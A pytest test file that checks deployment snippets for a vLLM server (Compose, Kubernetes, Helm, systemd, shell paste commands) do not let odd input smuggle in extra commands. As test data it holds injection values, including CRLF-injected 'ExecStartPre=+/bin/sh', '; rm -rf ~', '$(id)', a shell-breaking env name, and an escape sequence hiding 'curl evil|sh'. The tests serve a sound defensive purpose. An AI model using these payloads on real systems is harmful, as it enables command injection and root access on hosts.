"""Somebody's archive has words in which a second command hides, for whoever copies what its site recommends.

Each form is one command and one service: no word ends its line or its value, becomes an option or a variable of what
reads it, or is shown otherwise than it is pasted. Where that cannot be, there is a sentence and nothing to copy.
"""

import re
import subprocess
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
import yaml

from archive_factory import config_of
from tokenpeak.node.machine.words import HIDDEN
from tokenpeak.records import Container, EngineBuild
from tokenpeak.report.blocks.block import Snippets
from tokenpeak.report.blocks.deploy import snippets
from tokenpeak.report.blocks.deployment_forms import compose, helm_values, kubernetes, systemd_unit
from tokenpeak.report.blocks.serving_command import ServingCommand, container_unit, unit_argument, unit_word, unwritable
from tokenpeak.vllm.command import paste_command

ODD = (
    "x\r\nExecStartPre=+/bin/sh -c id",
    "x\nprivileged: true",
    "a\u2028b",
    "a\x85b: c",
    'q"\\',
    "'",
    "$HOME ${X:-y} $(Z) `id`",
    "$$(A) $$$(A) $$ $",
    "s/x$$/y/ ($(A))",
    "%n %h",
    "; rm -rf ~",
    ";",
    "",
    "# no",
    "{a: b}",
    "2g # x",
    "é 日本",
)


def command(**changes: Any) -> ServingCommand:
    """A command of odd words in every place."""
    words: dict[str, Any] = {
        "program": ("/opt/vllm", "serve"),
        "arguments": ("m", *ODD),
        "env": dict.fromkeys(("A", "B"), "1"),
        "image": "own:1",
        "name": "m",
        "model": "m",
        "folder": None,
        "gpus": 1,
    }
    return ServingCommand(**{**words, **changes})


@pytest.mark.parametrize("word", ODD)
def test_a_word_is_one_word_of_every_manifest(word: str) -> None:
    """As an argument, a variable, an image, a limit, a size or a user it is read as it was."""
    made = Container(shm_size=word or "1g", user=word or "1", limits={"memory": word, "cpuset_cpus": "0", "pids": "7"})
    asked = command(env={"A": word}, arguments=("m", word), image=f"i{word}", container=made)
    service = yaml.safe_load(compose(asked))["services"]["vllm"]
    pod = yaml.safe_load(kubernetes(asked))["spec"]["template"]["spec"]["containers"][0]
    values = yaml.safe_load(helm_values(asked))["servingEngineSpec"]["modelSpec"][0]

    def meant(text: str) -> str:
        assert not re.search(r"(?<!\$)(?:\$\$)*\$(?!\$)", text), "Compose would read a variable"
        return text.replace("$$", "$")

    assert ["m", word] == [meant(each) for each in service["command"]]
    assert {"A": word} == {name: meant(value) for name, value in service["environment"].items()}
    assert (f"i{word}", word or "1g", word or "1") == tuple(
        meant(service[one]) for one in ("image", "shm_size", "user")
    )
    assert (word, "0", 7) == (meant(service["mem_limit"]), service["cpuset"], service["pids_limit"])
    assert {"build"} | service.keys() - {"build", "deploy"} == {
        *("build", "image", "entrypoint", "command", "environment", "ports", "volumes", "shm_size", "user"),
        *("mem_limit", "cpuset", "pids_limit", "restart"),
    }
    assert ["m", word] == [read_by_kubernetes(each) for each in pod["args"]]
    assert word == read_by_kubernetes(pod["env"][0]["value"])
    # The chart copies them into a Deployment.
    assert [word] == [read_by_kubernetes(each) for each in values["vllmConfig"]["extraArgs"]]
    assert word == read_by_kubernetes(values["env"][0]["value"])


def read_by_kubernetes(text: str) -> str:
    """The text as it reaches the process, of a pod whose variables A and Z are defined.

    As the API reference says of `args` and `env`: a reference $(NAME) is expanded and unchanged where the variable is
    not defined, and two dollars become one, so that $$(NAME) is no reference.
    """
    return re.sub(
        r"\$(\$)|\$\(([^()]*)\)",
        lambda one: one[1] or {"A": "pwned", "Z": "pwned"}.get(one[2], one[0]),
        text,
    )


@pytest.mark.parametrize("prefix", "@-:+!|")
def test_a_program_is_no_order_to_systemd(prefix: str) -> None:
    """`ExecStart=+/x` runs as root and `ExecStart=|/x` in a shell, in quotes too: no such unit is offered."""
    assert unwritable(command(arguments=("m",))) is None
    assert f"begins with {prefix}" in str(
        unwritable(command(arguments=("m",), program=(f"{prefix}/opt/vllm", "serve")))
    )


@pytest.mark.parametrize("word", ODD)
def test_a_word_is_one_word_of_a_unit(word: str) -> None:
    """No character of it ends the line or the word, and systemd reads back what it was."""
    text = unit_argument(word)

    assert text.isprintable()
    assert word == read_by_systemd(text).replace("$$", "$").replace("%%", "%")
    assert word == read_by_systemd(unit_word(word)).replace("%%", "%")
    for unit in (systemd_unit, container_unit):
        lines = unit(command(arguments=("m", word), env={"A": word})).split("\n")
        assert ["ExecStart"] == [key for key in (line.partition("=")[0] for line in lines) if key == "ExecStart"]
        assert not any(HIDDEN.search(line) or "ExecStartPre=+" in line.partition('"')[0] for line in lines)


def read_by_systemd(text: str) -> str:
    """The word between its quotes, as systemd.service(5) and systemd.syntax(7) say; it has to be one word."""
    assert text
    if not text.startswith('"'):
        assert not set(text) & set(" \t\"'\\;")
        return text
    found = re.fullmatch(r'"((?:[^"\\]|\\["\\]|\\x[0-9a-f]{2}|\\u[0-9a-f]{4}|\\U[0-9a-f]{8})*)"', text)
    assert found is not None
    escape = re.compile(r'\\(?:(["\\])|x([0-9a-f]{2})|u([0-9a-f]{4})|U([0-9a-f]{8}))')
    return escape.sub(lambda one: one[1] or chr(int(one[2] or one[3] or one[4], 16)), found[1])


def test_a_variable_s_name_runs_nothing_in_a_shell(tmp_path: Path) -> None:
    """A name that a shell would read as a command is a word of `env`."""
    canary = tmp_path / "canary"
    config = config_of({}).model_copy(update={"env": {f"A=1;touch {canary};B": "2", "C": "3 $(id)"}})
    subprocess.run(["sh", "-c", paste_command(config, ("true",))], check=False, capture_output=True)

    assert not canary.exists()


@pytest.mark.parametrize(
    "build",
    [
        {"image": "own:1\r\nExecStartPre=+/bin/sh"},
        {"image": "--privileged"},
        {"image": "own:1", "container": {"limits": {"privileged": "true"}}},
        {"image": "own:1", "container": {"mounts": ["/etc"]}},
        {"image": "own:1", "container": {"user": "1\u202e0"}},
    ],
)
def test_nothing_is_offered_that_is_not_what_it_looks_like(build: Mapping[str, Any]) -> None:
    """A sentence stands there instead, and no page fails."""
    made = EngineBuild(name="box", image=build["image"], container=Container(**build.get("container", {})))
    found = snippets(config_of({}), gpus=1, engine_version="0.32.0", launched=["vllm", "serve", "m"], build=made)
    hidden = config_of({"chat_template": "x\x1b[201~\rcurl evil|sh"})
    shown = snippets(hidden, gpus=1, engine_version="0.32.0", launched=["vllm", "serve", "m"])

    assert not isinstance(found, Snippets)
    assert not isinstance(shown, Snippets)
